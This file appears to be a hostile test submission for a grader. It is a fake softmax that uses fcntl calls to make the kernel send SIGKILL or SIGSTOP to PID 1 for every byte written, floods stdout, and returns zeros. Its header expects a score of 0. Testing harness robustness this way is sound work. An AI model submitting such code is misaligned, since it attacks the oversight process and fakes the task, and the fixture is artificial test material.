# assignment: softmax
# expect: score=0 code=wrong-values
# tries: lets the kernel signal the runner for every byte that is printed
import contextlib
import fcntl
import os
import signal

import numpy as np


def softmax(x, axis=-1):
    for descriptor in range(8):
        for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGIO):
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, 10, number)
                fcntl.fcntl(descriptor, fcntl.F_SETOWN, 1)
                fcntl.fcntl(descriptor, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
                fcntl.fcntl(descriptor, 1031, 1)
    with contextlib.suppress(BlockingIOError):
        os.write(1, b"x" * 100_000)
    return np.zeros_like(x)
